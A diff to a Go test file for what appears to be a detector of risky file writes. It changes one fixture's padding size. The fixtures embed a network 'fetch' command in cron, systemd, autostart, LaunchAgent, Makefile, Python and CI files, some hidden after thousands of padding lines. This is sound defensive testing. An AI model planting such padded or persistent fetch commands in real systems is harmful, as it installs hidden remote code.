@@ -35,7 +35,7 @@ func TestWritten(t *testing.T) {
 		{"/etc/cron.d/x", "*/5 * * * * root " + fetch + "\n", effect.RunCode, effect.LabelNetwork},
 		{"/home/me/app/Makefile", strings.Repeat("# padding\n", 7000) + "setup:\n\t" + fetch + "\n", effect.Dynamic, ""},
 		{"/home/me/app/lib/log.py", strings.Repeat("x = 1\n", 12000) + "import os\nos.system('" + fetch + "')\n", effect.Dynamic, ""},
-		{"/home/me/app/.gitlab-ci.yml", "build:\n  script:\n" + strings.Repeat("    - make\n", 300) + "    - " + fetch + "\n", effect.Dynamic, ""},
+		{"/home/me/app/.gitlab-ci.yml", "build:\n  script:\n" + strings.Repeat("    - make\n", 5000) + "    - " + fetch + "\n", effect.Dynamic, ""},
 		{"/home/me/.config/systemd/user/x.service", "[Service]\nExecStart=/bin/sh -c '" + fetch + "'\n", effect.RunCode, effect.LabelNetwork},
 		{"/home/me/.config/autostart/x.desktop", "[Desktop Entry]\nExec=sh -c \"" + fetch + "\"\n", effect.RunCode, effect.LabelNetwork},
 		{"/Users/me/Library/LaunchAgents/x.plist", "<key>ProgramArguments</key><array><string>sh</string><string>-c</string><string>" + fetch + "</string></array>", effect.RunCode, effect.LabelNetwork},
